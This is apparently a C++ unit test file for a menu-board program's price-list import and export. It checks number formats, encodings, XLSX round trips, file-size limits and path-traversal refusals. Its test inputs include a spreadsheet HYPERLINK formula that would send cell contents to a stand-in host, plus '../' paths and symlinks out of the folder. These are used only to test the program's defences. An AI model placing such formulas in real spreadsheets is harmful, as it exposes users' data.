// Price lists as spreadsheet programs give them back: other forms of the same numbers, other
// encodings and separators, formula-like texts, workbooks, files that are no lists at all, and
// the layouts a list may name.
#include "prices/ListTable.h"
#include "prices/PriceList.h"
#include "prices/PriceListFile.h"
#include "prices/PriceListXlsx.h"
#include "prices/PriceNumbers.h"
#include "samples/SampleBoards.h"
#include "support/GuiApplication.h"
#include "support/TempDataDir.h"

#include <QDir>
#include <QFile>
#include <QStringEncoder>

#include <gtest/gtest.h>

#include <functional>
#include <map>
#include <memory>

#include <sys/stat.h>
#include <unistd.h>

namespace tavrin {
namespace {

QByteArray Read(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

bool Write(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size();
}

TEST(PriceNumbers, ACellIsTheBoardsNumberWhateverFormItCameBackIn)
{
    const struct {
        QString board, cell;
        const char *written; // nullptr: the same value; "" : not a number
    } cases[] = {
        {"3.00", "3", nullptr},          // a spreadsheet's standard number form
        {"3.00", "3,00", nullptr},       // a list with decimal commas
        {"3.00", " $3.00 ", nullptr},    // a currency format
        {"5.99", "6.5", "6.50"},         // the entry's two decimals
        {"$5.99", "6.5", "$6.50"},       // its text around the digits
        {"1,50 €", "2", "2,00 €"},       // its decimal comma
        {"1,50 €", "2.5", "2,50 €"},
        {"5.99", "6.499", "6.499"},      // more decimals only where the value needs them
        {"7", "7.50", "7.50"},
        {"1050", "1,050", nullptr},      // three digits after one mark: thousands
        {"1,050", "1100", "1,100"},
        {"1.500", "1.750", "1.750"},     // the board's own form, whichever it is
        {"1,234.50", "1234.5", nullptr},
        {"5.99", "six", ""},
        {"5.99", "=2.49+0.30", ""},
        {"5.99", "6.50 each", ""},
        {"5.99", "", ""},
        {"5.99", "٦٫٥٠", ""},
    };
    for (const auto &c : cases) {
        SCOPED_TRACE((c.board + " / " + c.cell).toStdString());
        const std::optional<NumberInText> form = NumberOfText(c.board);
        ASSERT_TRUE(form.has_value());
        const std::optional<NumberInText> cell = CellNumber(c.cell, *form);
        if (c.written && QString::fromUtf8(c.written).isEmpty()) {
            EXPECT_FALSE(cell.has_value());
            continue;
        }
        ASSERT_TRUE(cell.has_value());
        if (!c.written)
            EXPECT_TRUE(SameNumber(cell->value, form->value)) << cell->value;
        else
            EXPECT_EQ(WriteInForm(*cell, *form, u'.'), QString::fromUtf8(c.written));
    }
    // Texts with no number or two are texts.
    for (const char *text : {"Single", "2 for 5.00", ""})
        EXPECT_FALSE(NumberOfText(QString::fromUtf8(text)).has_value()) << text;
}

TEST(PriceListCells, FormulaLikeTextsAreNeutralisedAndComeBackExactly)
{
    const QStringList texts = {"=HYPERLINK(\"http://example.com/\"&A1,\"Click\")", "+1 555 0100", "-1.00", "@home",
                               "\tTabbed", "\rReturn", "'=already quoted", "''@twice", "'Tis the season", "Plain",
                               "", "'"};
    for (const QString &text : texts) {
        SCOPED_TRACE(text.toStdString());
        const QString cell = NeutraliseCell(text);
        EXPECT_FALSE(!cell.isEmpty() && QString("=+-@\t\r").contains(cell[0])) << "a spreadsheet would run it";
        EXPECT_EQ(RestoreCell(cell), text);
    }
    EXPECT_EQ(NeutraliseCell("'Tis the season"), "'Tis the season");

    // Through a whole list: the written file starts no cell with a formula character.
    PriceRow row;
    row.layout = "Menu_LAYOUT.MARBIX";
    row.mainItem = texts[0];
    row.price = row.priceAtExport = "-1.00";
    row.calories = row.caloriesAtExport = "@5";
    const QByteArray csv = WritePriceListCsv({row});
    const auto records = ParseCsv(DecodeListText(csv), nullptr);
    ASSERT_TRUE(records.has_value());
    for (const TableRecord &record : *records)
        for (const QString &cell : record.cells)
            EXPECT_FALSE(!cell.isEmpty() && QString("=+-@\t\r").contains(cell[0])) << cell.toStdString();
    const PriceListReading read = ReadPriceListCsv(csv);
    ASSERT_EQ(read.rows.size(), 1u);
    EXPECT_EQ(read.rows[0].mainItem, row.mainItem);
    EXPECT_EQ(read.rows[0].price, "-1.00");
    EXPECT_EQ(read.rows[0].calories, "@5");
}

// The landscape sample's list, and the change two edits of it make: Classic Burger's first
// price typed as 6.50 and Iced Tea's first calorie count 95, the edits of the LibreOffice files
// under tests/data/prices.
class SampleList : public ::testing::Test {
protected:
    void SetUp() override
    {
        EnsureGuiApplication();
        folder = data.file("sample");
        samples::BuildSample(samples::SampleKind::Landscape, folder, layout);
        for (const PriceEntry &e : ExtractPriceEntries(layout))
            rows.push_back(RowForEntry("SampleLandscape_LAYOUT.MARBIX", e));
        for (PriceRow &r : rows) {
            if (r.mainItem == "Classic Burger" && r.entry == 1)
                r.price = "6.50";
            if (r.mainItem == "Iced Tea" && r.entry == 1)
                r.calories = "95";
        }
    }
    // The prices texts the two edits give; every other strip stays as it is.
    const std::map<std::pair<int, int>, QString> edited = {{{0, 1}, "6.50>540^7.49>720"}, {{1, 9}, "1.99>95^2.49>120"}};

    test::TempDataDir data;
    QString folder;
    std::unique_ptr<MenuLayout> store = std::make_unique<MenuLayout>();
    MenuLayout &layout = *store;
    std::vector<PriceRow> rows;
};

// Each line of a CSV text changed by change (lines split at CR LF, the last one kept).
QByteArray EachLine(const QByteArray &csv, const std::function<QString(const QString &line, int index)> &change)
{
    QStringList lines = QString::fromUtf8(csv).split("\r\n");
    for (int i = 0; i + 1 < lines.size(); ++i)
        lines[i] = change(lines[i], i);
    return lines.join("\r\n").toUtf8();
}

TEST_F(SampleList, EveryFormOfTheListGivesTheSameChangeAndEveryFaultyOneRefusesWithNothingChanged)
{
    const QByteArray exported = WritePriceListCsv(rows);
    const QByteArray withoutBom = exported.mid(3);
    const auto fixture = [](const char *name) { return Read(test::TestDataPath(QString("prices/") + name)); };
    const auto replaced = [&](const QString &from, const QString &to) {
        QByteArray bytes = exported;
        return bytes.replace(from.toUtf8(), to.toUtf8());
    };
    const struct {
        const char *what;
        QByteArray list;
        QString refusal; // empty: the two edits apply
    } cases[] = {
        {"as exported (UTF-8 with BOM, CR LF)", exported, {}},
        {"without a BOM", withoutBom, {}},
        {"LF line ends", QByteArray(exported).replace("\r\n", "\n"), {}},
        {"blank rows", EachLine(exported, [](const QString &l, int i) { return i % 7 == 1 ? ",,,,,,,,,,\r\n  ,  , \r\n" + l : l; }), {}},
        {"padded cells", EachLine(exported, [](const QString &l, int) { return "  " + l.split(',').join("  ,  ") + "   "; }), {}},
        {"reordered columns and one more",
         EachLine(exported,
                  [](const QString &l, int i) {
                      QStringList cells = l.split(',');
                      std::reverse(cells.begin(), cells.end());
                      return (i == 0 ? QString("Note") : QString("x")) + "," + cells.join(',');
                  }),
         {}},
        {"header names in other case", replaced("main_item,line", "Main Item,LINE"), {}},
        {"Windows-1252", QStringEncoder("windows-1252").encode(QString::fromUtf8(withoutBom)), {}},
        {"LibreOffice: 3.00 as 3, 6.50 as 6.5", fixture("libreoffice-standard.csv"), {}},
        {"LibreOffice: semicolons and decimal commas", fixture("libreoffice-semicolons.csv"), {}},
        {"LibreOffice: Windows-1252", fixture("libreoffice-windows1252.csv"), {}},
        {"LibreOffice: saved as XLSX", fixture("libreoffice-saved.xlsx"), {}},
        {"a stale row", replaced(",7.49,720,right,7.49,720", ",7.49,720,right,7.29,720"),
         "line 5: column 1, row 2 \"Classic Burger\": price entry 2 of line 1 has changed since the export"},
        {"a formula cell", replaced(",1,1,6.49,610,", ",1,1,=2.49+0.30,610,"),
         "price \"=2.49+0.30\" is not a number (the board has 6.49)"},
        {"a word for a number", replaced(",1,1,6.49,610,", ",1,1,six,610,"), "price \"six\" is not a number"},
        {"an emptied calorie count", replaced(",1,1,6.49,610,", ",1,1,6.49,,"), "calorie count is empty where the board has 610"},
        {"a separator in a text left unquoted", replaced(",Cheeseburger,", ",Cheese,burger,"), "12 cells where the header has 11"},
    };
    for (const auto &c : cases) {
        SCOPED_TRACE(c.what);
        samples::BuildSample(samples::SampleKind::Landscape, folder, layout);
        const auto before = std::make_unique<MenuLayout>(layout);
        const PriceListReading reading = ReadPriceListBytes(c.list);
        PriceApplication applied;
        if (reading.errors.isEmpty())
            applied = ApplyPriceRows(layout, reading.rows);
        const QString refused = (reading.errors + applied.refused).join("\n");
        if (c.refusal.isEmpty()) {
            ASSERT_TRUE(refused.isEmpty()) << refused.toStdString();
            EXPECT_EQ(applied.changes.size(), 2u);
        } else {
            EXPECT_TRUE(refused.contains(c.refusal)) << refused.toStdString();
            EXPECT_TRUE(applied.changes.empty());
        }
        for (int col = 0; col < kMaxColumns; ++col) {
            for (int r = 0; r < kMaxRows; ++r) {
                Strip want = before->strip(col, r);
                if (const auto it = edited.find({col, r}); c.refusal.isEmpty() && it != edited.end())
                    want.prices().Text = it->second;
                ASSERT_TRUE(layout.strip(col, r) == want) << "strip " << col << "," << r << ": "
                                                          << layout.strip(col, r).prices().Text.toStdString();
            }
        }
    }
}

TEST_F(SampleList, AFormulaLikeItemNameComesBackThroughASpreadsheetExactly)
{
    const QString formula = "=HYPERLINK(\"http://example.com/\"&A1,\"Click\")";
    layout.strip(0, 1).mainItem().Text = formula;
    // LibreOffice kept the neutralised name a text, apostrophe and all.
    const QByteArray saved = Read(test::TestDataPath("prices/libreoffice-formula-name.csv"));
    ASSERT_TRUE(saved.contains("\"'=HYPERLINK("));
    const PriceListReading reading = ReadPriceListBytes(saved);
    ASSERT_TRUE(reading.errors.isEmpty()) << reading.errors.join("; ").toStdString();
    EXPECT_EQ(reading.rows[2].mainItem, formula);
    const PriceApplication applied = ApplyPriceRows(layout, reading.rows);
    ASSERT_TRUE(applied.refused.isEmpty()) << applied.refused.join("; ").toStdString();
    EXPECT_EQ(layout.strip(0, 1).prices().Text, "6.50>540^7.49>720");
    EXPECT_EQ(layout.strip(0, 1).mainItem().Text, formula);
}

TEST_F(SampleList, AWorkbookRoundTripEqualsTheCsvRoundTrip)
{
    // Texts a spreadsheet would reformat or run, in cells of their own.
    rows[0].mainItem = "=1+1";
    rows[1].price = rows[1].priceAtExport = "-0.50";
    rows[2].mainItem = "Jalapeño \"Spezial\", 辣";
    QString error;
    ASSERT_TRUE(WritePriceListFile(data.file("list.csv"), rows, &error)) << error.toStdString();
    ASSERT_TRUE(WritePriceListFile(data.file("list.xlsx"), rows, &error)) << error.toStdString();
    EXPECT_TRUE(LooksLikeZip(Read(data.file("list.xlsx"))));
    const PriceListReading csv = ReadPriceListFile(data.file("list.csv"));
    const PriceListReading xlsx = ReadPriceListFile(data.file("list.xlsx"));
    ASSERT_TRUE(csv.errors.isEmpty() && xlsx.errors.isEmpty()) << (csv.errors + xlsx.errors).join("; ").toStdString();
    ASSERT_EQ(csv.rows.size(), rows.size());
    ASSERT_EQ(xlsx.rows.size(), rows.size());
    const auto fields = [](const PriceRow &r) {
        return QStringList{r.layout, QString::number(r.column), QString::number(r.row), r.mainItem,
                           QString::number(r.line), QString::number(r.entry), r.price, r.calories,
                           QString::number(int(r.caloriePart)), r.priceAtExport, r.caloriesAtExport,
                           QString::number(r.listLine)};
    };
    for (size_t i = 0; i < rows.size(); ++i) {
        EXPECT_EQ(fields(xlsx.rows[i]), fields(csv.rows[i]));
        EXPECT_EQ(csv.rows[i].mainItem, rows[i].mainItem);
    }

    // The program's own workbook saved again by LibreOffice reads as the list it was.
    const PriceListReading resaved = ReadPriceListFile(test::TestDataPath("prices/libreoffice-resaved-own.xlsx"));
    ASSERT_TRUE(resaved.errors.isEmpty()) << resaved.errors.join("; ").toStdString();
    samples::BuildSample(samples::SampleKind::Landscape, folder, layout);
    std::vector<PriceRow> own;
    for (const PriceEntry &e : ExtractPriceEntries(layout))
        own.push_back(RowForEntry("SampleLandscape_LAYOUT.MARBIX", e));
    const PriceListReading ownCsv = ReadPriceListCsv(WritePriceListCsv(own));
    ASSERT_EQ(resaved.rows.size(), ownCsv.rows.size());
    for (size_t i = 0; i < own.size(); ++i)
        EXPECT_EQ(fields(resaved.rows[i]), fields(ownCsv.rows[i]));
}

TEST(PriceListFile, OnlyARegularFileOfAtMost64MegabytesIsRead)
{
    test::TempDataDir data;
    const QString fifo = data.file("pipe.csv");
    ASSERT_EQ(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
    const QString large = data.file("large.csv");
    ASSERT_TRUE(Write(large, "layout\r\n"));
    ASSERT_EQ(::truncate(QFile::encodeName(large).constData(), kMaxPriceListBytes + 1), 0);
    QDir().mkpath(data.file("folder.csv"));
    const struct {
        QString path;
        QString error;
    } cases[] = {
        {"/dev/zero", "not a regular file"},
        {fifo, "not a regular file"}, // never waited on
        {data.file("folder.csv"), "not a regular file"},
        {large, "larger than 64 MB"},
        {data.file("none.csv"), "no such file"},
    };
    for (const auto &c : cases) {
        SCOPED_TRACE(c.path.toStdString());
        const PriceListReading reading = ReadPriceListFile(c.path);
        ASSERT_EQ(reading.errors.size(), 1);
        EXPECT_TRUE(reading.errors[0].contains(c.error)) << reading.errors[0].toStdString();
        EXPECT_TRUE(reading.rows.empty());
    }
    // Nor does a file of nothing but separators fill the memory.
    const PriceListReading commas = ReadPriceListBytes("layout\r\n" + QByteArray(3 << 20, ','));
    ASSERT_FALSE(commas.errors.isEmpty());
    EXPECT_TRUE(commas.errors[0].contains("more than 1000 cells")) << commas.errors[0].toStdString();
}

TEST(PriceListFile, ALayoutIsTakenFromTheListsFolderAndNeverFromOutsideIt)
{
    EnsureGuiApplication();
    test::TempDataDir data;
    QString error;
    const QString lists = data.file("lists");
    ASSERT_FALSE(samples::WriteSample(samples::SampleKind::Portrait, lists + "/menus", &error).isEmpty());
    ASSERT_FALSE(samples::WriteSample(samples::SampleKind::Portrait, data.file("other"), &error).isEmpty());
    QDir().mkpath(lists + "/linked");
    ASSERT_TRUE(QFile::link(data.file("other/SamplePortrait_LAYOUT.MARBIX"), lists + "/linked/Link_LAYOUT.MARBIX"));
    ASSERT_TRUE(QFile::link(data.file("other"), lists + "/away"));
    ASSERT_TRUE(Write(lists + "/Fake_LAYOUT.MARBIX", "not a zip"));
    const QString package = lists + "/menus/SamplePortrait_LAYOUT.MARBIX";
    EXPECT_EQ(ListedLayoutName(lists, package), "menus/SamplePortrait_LAYOUT.MARBIX");
    EXPECT_EQ(ListedLayoutName(lists, data.file("other/SamplePortrait_LAYOUT.MARBIX")),
              "../other/SamplePortrait_LAYOUT.MARBIX");

    const struct {
        QString named;
        QString refusal;        // without --allow-outside; empty: taken
        QString refusalOutside; // with it
    } cases[] = {
        {"menus/SamplePortrait_LAYOUT.MARBIX", {}, {}},
        {"menus\\SamplePortrait_LAYOUT.MARBIX", {}, {}},
        {"./menus/../menus/SamplePortrait_LAYOUT.MARBIX", {}, {}},
        {package, {}, {}},
        {"../other/SamplePortrait_LAYOUT.MARBIX", "is outside the list's folder", {}},
        {data.file("other/SamplePortrait_LAYOUT.MARBIX"), "is outside the list's folder", {}},
        {"linked/Link_LAYOUT.MARBIX", "is reached through the link", {}},
        {"away/SamplePortrait_LAYOUT.MARBIX", "is reached through the link", {}},
        {"Fake_LAYOUT.MARBIX", "is not a layout package", "is not a layout package"},
        {"menus/SamplePortrait_TV.jpg", "is not a layout package", "is not a layout package"},
        {"menus/Gone_LAYOUT.MARBIX", "does not exist", "does not exist"},
    };
    for (const auto &c : cases) {
        SCOPED_TRACE(c.named.toStdString());
        for (const bool allowOutside : {false, true}) {
            const ListedLayout listed = ResolveListedLayout(lists, c.named, allowOutside);
            const QString &refusal = allowOutside ? c.refusalOutside : c.refusal;
            if (refusal.isEmpty()) {
                EXPECT_TRUE(listed.refusal.isEmpty()) << listed.refusal.toStdString();
                EXPECT_FALSE(listed.path.isEmpty());
            } else {
                EXPECT_TRUE(listed.refusal.contains(refusal)) << listed.refusal.toStdString();
                EXPECT_TRUE(listed.path.isEmpty());
            }
        }
    }
}

} // namespace
} // namespace tavrin
